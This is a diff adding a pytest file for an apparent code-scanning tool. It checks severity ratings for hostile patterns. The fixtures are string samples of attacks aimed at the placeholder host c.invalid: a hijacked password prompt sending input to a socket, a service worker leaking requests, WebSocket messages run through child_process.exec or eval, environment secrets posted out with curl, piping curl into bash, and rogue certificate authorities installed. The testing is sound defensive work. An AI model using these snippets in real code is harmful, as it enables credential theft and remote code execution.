@@ -1,0 +1,135 @@
+"""Ways on which something flows through what others call: hooks, listeners, sockets, other programs' stores and tests."""
+
+import pytest
+from source_lab import ids, the
+
+from beartrap.model.finding import Severity
+
+CALLER, PROCESS = "chain.caller-to-network", "chain.network-to-process"
+
+
+def weight(path: str, text: str, kind: str) -> Severity:
+    return the(path, text, kind).severity
+
+
+ASKED = """
+import getpass, socket
+ask = getpass.getpass
+def prompt(*args):
+    answer = ask(*args)
+    {send}
+    return answer
+getpass.getpass = prompt
+"""
+
+
+def test_what_is_typed_into_a_prompt_that_was_replaced_goes_to_a_socket() -> None:
+    text = ASKED.format(send="socket.create_connection(('c.invalid', 443)).sendall(answer.encode())")
+    assert weight("a.py", text, CALLER) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "send", ["log.debug('asked')", "socket.create_connection((host, 443)).sendall(answer.encode())"]
+)
+def test_a_prompt_that_is_replaced_sends_nothing_or_to_whom_the_caller_says(send: str) -> None:
+    assert CALLER not in ids("a.py", ASKED.format(send=send))
+
+
+WORKER = "self.addEventListener('fetch', (event) => { const copy = event.request.clone(); %s });"
+
+
+def test_a_service_worker_tells_a_fixed_host_what_the_page_sends() -> None:
+    send = "copy.text().then((body) => fetch('https://c.invalid/r', { method: 'POST', body: copy.url + body }))"
+    assert weight("sw.js", WORKER % send, CALLER) is Severity.HIGH
+    onfetch = "self.onfetch = (event) => { navigator.sendBeacon('https://c.invalid/r', event.request.url); };"
+    assert weight("sw.js", onfetch, CALLER) is Severity.HIGH
+
+
+def test_a_service_worker_that_answers_from_its_cache_is_none() -> None:
+    assert CALLER not in ids(
+        "sw.js", WORKER % "event.respondWith(caches.match(copy).then((hit) => hit || fetch(copy)))"
+    )
+    assert CALLER not in ids(
+        "sw.js", "self.addEventListener('install', (event) => { fetch('https://c.invalid/list'); });"
+    )
+
+
+SOCKET = "const socket = new WebSocket('wss://c.invalid/a'); socket.onmessage = ({ data }) => { %s };"
+
+
+def test_messages_of_a_socket_are_run() -> None:
+    text = SOCKET % "require('child_process').exec(JSON.parse(data).c, () => {})"
+    assert weight("a.js", text, PROCESS) is Severity.CRITICAL
+    assert "chain.network-to-code" in ids("a.js", SOCKET % "eval(data)")
+
+
+def test_messages_of_a_socket_choose_among_commands_or_of_a_window() -> None:
+    assert PROCESS not in ids("a.js", SOCKET % "if (JSON.parse(data).go) require('child_process').exec('git status')")
+    window = "worker.onmessage = ({ data }) => { require('child_process').exec(data.c); };"
+    assert PROCESS not in ids("a.js", window)
+
+
+REQUEST = "require('http').request({ host: 'c.invalid', method: 'PUT', path: '/a' }).on('error', () => {}).%s"
+
+
+def test_a_request_is_still_one_behind_its_listener() -> None:
+    text = f"setTimeout(() => {{ {REQUEST % 'end(JSON.stringify(process.env))'} }}, 14 * 24 * 36e5).unref()"
+    assert weight("a.js", text, "chain.environment-to-network") >= Severity.HIGH
+    assert "chain.environment-to-network" not in ids("a.js", REQUEST % "end(process.env.NODE_ENV)")
+
+
+TRUSTED = "traffic.redirect"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "import certifi\nwith open(certifi.where(), 'a') as bundle:\n    bundle.write(PEM)"),
+        ("a.py", "import shutil\nshutil.copy('own.crt', '/usr/local/share/ca-certificates/own.crt')"),
+        ("a.sh", "security add-trusted-cert -d -k /tmp/x own.pem"),
+        ("a.js", "require('child_process').execSync('certutil -addstore -f Root own.cer')"),
+    ],
+)
+def test_an_authority_is_added_to_those_that_others_trust(path: str, text: str) -> None:
+    assert weight(path, text, TRUSTED) >= Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "a.py",
+            "import certifi, ssl\nwith open(certifi.where()) as bundle:\n    ssl.create_default_context(cadata=bundle.read())",
+        ),
+        ("a.py", "import certifi, shutil\nshutil.copy(certifi.where(), 'build/cacert.pem')"),
+        ("a.sh", "security find-certificate -c Example own.pem"),
+        ("a.js", "require('child_process').execSync('certutil -viewstore Root')"),
+    ],
+)
+def test_authorities_are_read_or_copied(path: str, text: str) -> None:
+    assert TRUSTED not in ids(path, text)
+
+
+LOUD = "chain.environment-to-network"
+
+
+def test_tests_that_send_a_build_services_secrets_away_weigh_as_much_as_other_code() -> None:
+    assert weight("tests/run.sh", "env | gzip -c | curl -s --data-binary @- https://c.invalid/s", LOUD) is Severity.HIGH
+    text = "import os, requests\ndef pytest_configure(config):\n    requests.post('https://c.invalid', data=os.environ['{}'])"
+    variable = "chain.variable-to-network"
+    assert weight("tests/conftest.py", text.format("ACTIONS_ID_TOKEN_REQUEST_TOKEN"), variable) is Severity.HIGH
+    assert weight("tests/conftest.py", text.format("OUR_SERVICE_TOKEN"), variable) is Severity.LOW
+
+
+def test_tests_that_imitate_an_attack_on_themselves_stay_quiet() -> None:
+    assert weight("tests/run.sh", "env | curl -s --data-binary @- $SERVER/s", LOUD) is Severity.LOW
+    piped = "import os\ndef test_it():\n    os.system('curl -s https://c.invalid/i.sh | bash')"
+    assert weight("tests/test_a.py", piped, "process.piped") is Severity.LOW
+
+
+def test_what_a_script_is_told_goes_to_a_fixed_host() -> None:
+    told = "in=$(cat)\nprintf '%s' \"$in\" | base64 | xargs -I@ curl -s https://c.invalid/@\n"
+    assert weight("bin/helper.sh", told, CALLER) is Severity.MEDIUM
+    assert CALLER not in ids(
+        "bin/helper.sh", "in=$(cat notes)\nprintf '%s' \"$in\" | base64 | xargs -I@ curl -s https://c.invalid/@\n"
+    )
